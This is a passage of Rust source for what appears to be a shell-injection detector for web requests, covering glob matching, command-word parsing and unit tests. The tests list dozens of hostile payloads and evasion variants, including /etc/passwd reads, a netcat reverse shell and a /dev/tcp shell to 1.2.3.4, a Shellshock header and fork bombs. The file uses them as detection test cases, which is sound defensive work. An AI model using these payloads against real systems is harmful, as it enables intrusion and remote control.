            || !word.starts_with('/')
            || !word.bytes().any(|c| matches!(c, b'?' | b'*' | b'['))
        {
            continue;
        }
        // The word must spell part of the target literally: `/*` alone (a code
        // comment) matches everything. A globbed system directory (`/[e]tc`,
        // `/b?n`) names a target too.
        if word.bytes().filter(u8::is_ascii_alphanumeric).count() < 2 {
            continue;
        }
        if TARGETS
            .iter()
            .chain(DIRS)
            .any(|t| glob_match(word.as_bytes(), t.as_bytes(), 0))
        {
            return Some(start);
        }
    }
    None
}

/// Minimal shell glob: `?`, `*`, `[abc]`, `[a-z]`, `[!x]`; bounded recursion depth.
fn glob_match(p: &[u8], t: &[u8], depth: u32) -> bool {
    if depth > 16 {
        return false;
    }
    match p.first() {
        None => t.is_empty(),
        Some(b'*') => (0..=t.len()).any(|k| glob_match(&p[1..], &t[k..], depth + 1)),
        Some(b'?') => !t.is_empty() && glob_match(&p[1..], &t[1..], depth),
        Some(b'[') => {
            let Some(close) = p.iter().skip(2).position(|&c| c == b']').map(|x| x + 2) else {
                return !t.is_empty() && t[0] == b'[' && glob_match(&p[1..], &t[1..], depth);
            };
            let Some(&c) = t.first() else { return false };
            let mut set = &p[1..close];
            let neg = matches!(set.first(), Some(b'!' | b'^'));
            if neg {
                set = &set[1..];
            }
            let mut hit = false;
            let mut k = 0;
            while k < set.len() {
                if k + 2 < set.len() && set[k + 1] == b'-' {
                    hit |= set[k] <= c && c <= set[k + 2];
                    k += 3;
                } else {
                    hit |= set[k] == c || set[k] == b'?' || set[k] == b'*';
                    k += 1;
                }
            }
            hit != neg && glob_match(&p[close + 1..], &t[1..], depth)
        }
        Some(&c) => t.first() == Some(&c) && glob_match(&p[1..], &t[1..], depth),
    }
}

/// A command word found by [`command_at`].
#[derive(Clone, Copy)]
struct Cmd {
    name: &'static str,
    /// Offset after the word.
    after: usize,
    /// Spelled with a `bin/` directory (`bin/ansible`, `/usr/bin/id`).
    bin_path: bool,
    /// Split by quotes or escaped (`w'h'o'am'i`, `py""thon`, `\ls`): only a shell
    /// reassembles such a word, so it is evasion.
    split: bool,
}

/// Reads a command word at `i` (after optional blanks, quotes and a path prefix).
fn command_at(s: &[u8], mut i: usize) -> Option<Cmd> {
    let mut escaped = false;
    while i < s.len()
        && matches!(
            s[i],
            b' ' | b'\t' | b'\'' | b'"' | b'(' | b'{' | b'\\' | b'!'
        )
    {
        escaped = s[i] == b'\\' && !matches!(s.get(i + 1), Some(b'n' | b'r' | b't'));
        i += 1;
    }
    // SQLite shell dot-commands (`.shell CMD`, `.system CMD`) and the POSIX `.`
    // (source) builtin run what follows: skip the dot.
    // (`.env`, `.git` are file names, not commands.)
    let mut dot_word = false;
    let dot = s.get(i) == Some(&b'.') && !matches!(s.get(i + 1), Some(b'.' | b'/'));
    if dot {
        i += 1;
        dot_word = true;
        while i < s.len() && matches!(s[i], b' ' | b'\t' | b'\'' | b'"' | b'\\') {
            dot_word = false;
            i += 1;
        }
    }
    // `/usr/bin/id`, `/bin/cat`: take the last path segment.
    let start = i;
    while i < s.len()
        && (s[i].is_ascii_alphanumeric()
            || matches!(s[i], b'/' | b'.' | b'_' | b'-' | b'\\' | b'\'' | b'"'))
    {
        i += 1;
    }
    let mut word = &s[start..i];
    // A trailing literal `\n` belongs to the next command, not to this word.
    while let Some(w) = word
        .strip_suffix(b"\\n")
        .or_else(|| word.strip_suffix(b"\\r"))
    {
        word = w;
    }
    // Quote-splitting evasion (`w'h'o'am'i`): drop quotes and backslashes.
    // Longer words are never commands; a stack buffer avoids an allocation.
    let mut buf = [0u8; 48];
    let mut len = 0;
    for &b in word.iter().filter(|b| !matches!(b, b'\'' | b'"' | b'\\')) {
        if len == buf.len() {
            return None;
        }
        buf[len] = b;
        len += 1;
    }
    let cleaned = &buf[..len];
    let base = cleaned.rsplit(|&b| b == b'/').next().unwrap_or(cleaned);
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    if base.is_empty() {
        return None;
    }
    if dot && matches!(base, b"shell" | b"system") {
        return Some(Cmd {
            name: "exec",
            after: i,
            bin_path: false,
            split: true,
        });
    }
    if dot_word {
        return None;
    }
    // Quotes strictly inside the word, balanced (an apostrophe as in "I'd" is not).
    let inner = word
        .get(1..word.len().saturating_sub(1))
        .unwrap_or_default();
    let quotes = word.iter().filter(|&&b| b == b'\'' || b == b'"').count();
    let split = escaped
        || inner.contains(&b'\\')
        || (quotes >= 2 && quotes % 2 == 0 && inner.iter().any(|&b| b == b'\'' || b == b'"'));
    let bin_path =
        cleaned.len() > base.len() && cleaned[..cleaned.len() - base.len()].ends_with(b"bin/");
    let name = lookup(base)?;
    Some(Cmd {
        name,
        after: i,
        bin_path,
        split,
    })
}

/// FNV-1a, for the command set: its keys are short and fixed, so SipHash's
/// flooding resistance buys nothing and costs more than the rest of the lookup.
struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Self {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Hasher for Fnv {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0 ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
        }
    }
}

/// The known command `base` is, if any.
fn lookup(base: &[u8]) -> Option<&'static str> {
    // Called at every separator of every value: a set beats a linear scan.
    static SET: std::sync::OnceLock<
        std::collections::HashMap<&'static [u8], &'static str, BuildHasherDefault<Fnv>>,
    > = std::sync::OnceLock::new();
    let set = SET.get_or_init(|| STRONG_CMDS.iter().map(|c| (c.as_bytes(), *c)).collect());
    if let Some(c) = set.get(base) {
        return Some(c);
    }
    // Versioned interpreters and tool families (`python3.10`, `ansible-playbook`).
    FAMILIES
        .iter()
        .find(|f| base.starts_with(f.as_bytes()) && base.len() > f.len())
        .copied()
}

#[cfg(test)]
mod tests {
    use crate::detect::Action;
    use crate::detect::tests::{q, run};

    #[test]
    fn attacks() {
        for p in [
            "x%3Bcat%20/etc/passwd",
            "127.0.0.1%7Cwhoami",
            "a%26%26id",
            "%60id%60",
            "$(whoami)",
            "x;cat${IFS}/etc/passwd",
            "%0aping+-c+3+example.com",
            "a|w'h'o'am'i",
            "1;/usr/bin/id",
            "%3Bsystem(%27ls%27)",
            "x%7C%7Cnc+-e+/bin/sh+1.2.3.4+4444",
        ] {
            assert_eq!(q(p), Action::Ban, "{p}");
        }
        let raw = "GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n";
        assert_eq!(run(raw).1, Action::Ban);
    }

    /// One payload per evasion class: each must be banned on its own.
    #[test]
    fn evasions() {
        for p in [
            // Empty substitutions and special parameters inside a word.
            "cu%24%40rl+example.com",
            "ping%60%60%20127.0.0.1",
            "ping$()%20127.0.0.1",
            "pi>()ng%20127.0.0.1",
            "x;c%24*at+/et%24*c/pas%24*swd",
            // Quote splitting and escaping.
            "py%27%27thon+-c+%22print(1)%22",
            "%22%22w%22%22h%22%22o%22%22a%22%22m%22%22i",
            "%5Cls",
            // Brace expansion and one-character globs.
            "%7Bcat,/etc/passwd%7D",
            "%7B,cd,/etc,%7D",
            "c%7Ba,oun%7Dt+/etc/hosts",
            "/%5Be%5Dtc",
            "/???/c?t+/???/p??swd",
            // Variables as commands.
            "a%3Dnc%26%26%24a+-nlvp+555",
            "c1%3Dc%3Bc2%3Dat%3B%24c1%24c2+x",
            "%24%7BSHELL%7D+-c+id",
            "%24%5B2%2B2%5D",
            // Subshells, separators without blanks, multiple blanks.
            "d%3D/dev%26%26(sh)0>%24d/tcp/1.2.3.4/80",
            "ifconfig%3B",
            "x%26bcdboot%20%20%20/r%20file.txt",
            // A command line submitted with its newline; long options.
            "visudo%0A",
            "env+--version",
            "bin/ansible",
            // sqlite3 shell dot-commands.
            "1%3B.shell+whoami",
            "%22%3B%0A.+system+id",
            // Fork bombs and other function definitions that run.
            ":()%7B+:|:%26+%7D%3B:",
            "f()%7B+f|f%26+%7D%3Bf",
            // Mail protocol commands after CRLF.
            "%0D%0AMAIL+FROM:%3Ca@b.c%3E",
            "%0D%0ARETR+1",
            "%0D%0Aa001+FETCH+1+BODY[]",
            // Directory stack expansion, batch comparisons.
            "~%2B",
            "if+a%3D%3Db+foo",
        ] {
            assert_eq!(q(p), Action::Ban, "{p}");
        }
        // The referring page's parameters are inspected one by one.
        let raw = "GET / HTTP/1.1\r\nReferer: https://example.com/?args=env --version\r\n\r\n";
        assert_eq!(run(raw).1, Action::Ban);
    }

    #[test]
    fn evasion_lookalikes() {
        for p in [
            "I%27d+like+that",
            "rock%27n%27roll",
            "%7Bid,name%7D",
            "%24a+%24b+%24c",
            "%3B%24a+%24b",
            "%24%5B0%5D.name",
            "function+f()+%7B+return+1%3B+%7D",
            "render()+%7B+return+x+%7C%7C+y%3B+%7D",
            "Top+10+list%0Aretrieve+later",
            "cats+%26+dogs%3B+birds+%7C+fish",
            "/*+comment+*/",
            ".env",
            "Cut+orange+quarters+into+slices.%0A",
            "price+%245+-+%2410",
            "%7E5+minutes",
            "Run+%60npm+install%60+then+%60npm+test%60.",
            "Don%27t+%60rm%60+anything+yet%3B+I%27ll+check.",
        ] {
            assert_ne!(q(p), Action::Ban, "{p}");
        }
    }

    #[test]
    fn sentences_with_command_words() {
        // Words that are also commands, after `;` or `&` in a sentence.
        for p in [
            "The Senora found herself a heroine%3B more than that, she became aware",
            "Apt is gated%3B call when you get here",
            "BASE%3B SET SWAROVSKI",
            "1%3B exec will create the case 7",
        ] {
            assert_eq!(q(p), Action::Allow, "{p}");
        }
        // With shell-like arguments they still count.
        assert_eq!(q("x%3B more /etc/passwd"), Action::Ban);
    }

    #[test]
    fn benign_lookalikes() {
        for p in [
            "Tom+%26+Jerry",
            "R%26D%3B+cat+videos+and+more",
            "fish+%26+chips",
            "a%3Bb%3Bc",
            "price:+%245",
            "Dear+sir%3B+echo+chamber",
            "time+for+lunch",
            "nice+find",
            "system+design",
            "AT%26T",
        ] {
            assert_ne!(q(p), Action::Ban, "{p}");
        }
    }
}
